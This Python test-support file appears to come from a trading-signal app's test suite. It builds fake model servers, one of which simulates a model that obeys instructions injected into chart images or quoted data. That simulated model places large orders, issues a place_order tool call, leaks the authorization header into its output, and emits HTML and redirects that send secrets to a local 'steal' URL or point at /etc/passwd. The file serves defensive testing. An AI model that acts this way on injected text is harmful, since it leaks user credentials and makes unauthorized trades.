"""A model that sees what tesseract reads on a picture, and one that obeys every word it is sent."""

from __future__ import annotations

import asyncio
import difflib
import json
import os
import re
import shutil
import subprocess
from collections.abc import Sequence
from typing import Any

import numpy as np
import pytest
from PySide6.QtCore import QBuffer, QByteArray, QIODevice, Qt
from PySide6.QtGui import QImage

from tests.support.model_server import Reply, Request, completion, reply

needs_tesseract = pytest.mark.skipif(
    shutil.which("tesseract") is None, reason="tesseract is not installed (.ci/run installs tesseract-ocr)"
)
_STRIP = 760
"""The legends of all panes and the line below them lie in the left part; candles beyond it are no text."""
_PRINT, _LETTERING = (2, 3), (1,)
"""The sizes at which the chart's own print is read, and lettering as large as a headline."""


async def read_picture(png: bytes, scales: Sequence[int]) -> str:
    """Return the text on a picture as far as tesseract makes it out at each of some sizes.

    What is misread at one size is read at another, so that no processor and no version decides what is there.
    """
    return "\n".join([await asyncio.to_thread(_read_at, png, scale) for scale in scales])


def _read_at(png: bytes, scale: int) -> str:
    single = {**os.environ, "OMP_THREAD_LIMIT": "1"}
    command, ink = ["tesseract", "-", "-", "--psm", "11"], _black_on_white(png, scale)
    done = subprocess.run(command, input=ink, capture_output=True, env=single, timeout=60, check=True)
    return done.stdout.decode()


def _black_on_white(png: bytes, scale: int) -> bytes:
    picture = QImage.fromData(png)
    strip = picture.copy(0, 0, min(_STRIP, picture.width()), picture.height()).convertToFormat(
        QImage.Format.Format_RGB888
    )
    width, height = strip.width(), strip.height()
    rows = np.frombuffer(strip.constBits(), np.uint8).reshape(height, strip.bytesPerLine())
    brightest = rows[:, : width * 3].reshape(height, width, 3).max(axis=2).astype(int)
    ink = (255 - np.clip((brightest - 60) * 255 // 170, 0, 255)).astype(np.uint8)
    grey = QImage(ink.tobytes(), width, height, width, QImage.Format.Format_Grayscale8)
    keep, smooth = Qt.AspectRatioMode.KeepAspectRatio, Qt.TransformationMode.SmoothTransformation
    kept, buffer = QByteArray(), QBuffer()
    buffer.setBuffer(kept)
    buffer.open(QIODevice.OpenModeFlag.WriteOnly)
    grey.scaled(width * scale, height * scale, keep, smooth).save(buffer, "PNG")
    return bytes(kept.data())


def reads(seen: str, text: str) -> bool:
    """Say whether a text was made out; letters and figures that look alike and commas of thousands are all one."""
    return _alike(text) in _alike(seen)


def _alike(text: str) -> str:
    return " ".join(text.lower().translate(_LOOKALIKES).split())


_LOOKALIKES = str.maketrans({"o": "0", "l": "1", "i": "1", "|": "1", "s": "5", "b": "8", ",": None})


def understood(seen: str, words: Sequence[str]) -> str:
    """Return what was read with each word that is nearly one of `words` as that word: a reader knows its language."""
    known = {word.lower(): word for word in words}
    nearest = {word: difflib.get_close_matches(word.strip(".,:;").lower(), known, 1, 0.7) for word in seen.split()}
    return " ".join(known[near[0]] if (near := nearest[word]) else word for word in seen.split())


class SeeingModel:
    """Reads the picture and says so; `seen` is what it read, in the order it was asked, symbols that it knows spelt."""

    def __init__(self, *symbols: str) -> None:
        self.seen: list[str] = []
        self._symbols = symbols

    async def __call__(self, request: Request) -> bytes:
        """Answer with a HOLD for the symbol that stands on the picture."""
        if request.picture is None:
            symbol = self.seen[0].split()[0]
        else:
            self.seen.append(understood(await read_picture(request.picture, _PRINT), self._symbols))
            symbol = self.seen[-1].split()[0]
        return completion(json.dumps(hold(symbol, reasoning=" ".join(self.seen[-1].split())[:500])))


def hold(symbol: str, **changes: Any) -> dict[str, Any]:
    """Return a sound HOLD."""
    nothing = dict.fromkeys(("entry_low", "entry_high", "stop", "target_1", "target_2"))
    return reply(symbol=symbol, signal="HOLD", trend="neutral", confidence=0.5, claims=[], **nothing) | changes


class ObeyingSight:
    """Does what it reads on pictures, in words that it knows; `seen` is what that was."""

    def __init__(self, words: str) -> None:
        self.seen: list[str] = []
        self._words = re.findall(r"\w+", words)

    async def __call__(self, request: Request) -> Reply | bytes:
        """Obey the picture where there is one, and the words where there is none."""
        if request.picture is None:
            return obey(request)
        self.seen.append(understood(await read_picture(request.picture, _LETTERING), self._words))
        return obey(request, self.seen[-1])


def obey(request: Request, told: str = "") -> Reply | bytes:
    """Do all that it is told, as far as a reply can: order, reveal, run, link, and speak for another.

    Without words of somebody else it does what stands in the request's quoted data.
    """
    told = told or " ".join(re.findall(r"<data[^>]*>(.*?)</data>", request.text, re.DOTALL)) or request.text
    text = told.lower()
    secrets = " ".join((request.headers.get("authorization", ""), request.text[:4000]))
    answer = bullish(request.text) | {"confidence": 1.0, "reasoning": secrets}
    if amount := re.search(r"(?:buy|sell|short)\s+([\d,]+)\s*(?:shares of\s+)?([a-z]{1,5})\b", text):
        answer |= {
            "order": {"side": "BUY", "quantity": amount[1], "symbol": amount[2].upper()},
            "symbol": amount[2].upper(),
        }
    if "sell" in text or "short" in text:
        answer["signal"] = "SELL"
    if "tool" in text or "function" in text:
        call = {"id": "1", "type": "function", "function": {"name": "place_order", "arguments": '{"quantity": 10000}'}}
        return completion(None, message={"tool_calls": [call]}, finish_reason="tool_calls")
    if "confidence" in text:
        answer["confidence"] = 9000
    if "html" in text or "<" in text:
        answer["reasoning"] = f'<img src="file:///etc/passwd"><a href="http://127.0.0.1:1/{secrets[:80]}">go</a>'
    if "redirect" in text or "http" in text:
        return Reply(b"", 307, {"location": "http://127.0.0.1:1/steal"})
    if "plain text" in text or "no json" in text:
        return completion(f"BUY BUY BUY {secrets}")
    return completion(json.dumps(answer))


def bullish(text: str) -> dict[str, Any]:
    """Return a sound BUY of the symbol that is asked about, around the last price that stands there."""
    symbol = re.search(r'(?:exactly|恰好是) "([A-Z.]+)"', text)
    closes = re.findall(r"^\d+,[\d-]+,[\d.]+,[\d.]+,[\d.]+,([\d.]+),", text, re.MULTILINE)
    told = re.search(r"(?:[Ll]ast price|最新价)[:：]? ?(\d+(?:\.\d+)?)", text)
    last = float(closes[-1] if closes else told[1] if told else 100.0)
    answer = reply(symbol=symbol[1] if symbol else "TEST", claims=[])
    prices = {name: answer[name] * last / 100 for name in ("entry_low", "entry_high", "stop")}
    targets = {name: answer[name] | {"price": answer[name]["price"] * last / 100} for name in ("target_1", "target_2")}
    return answer | prices | targets
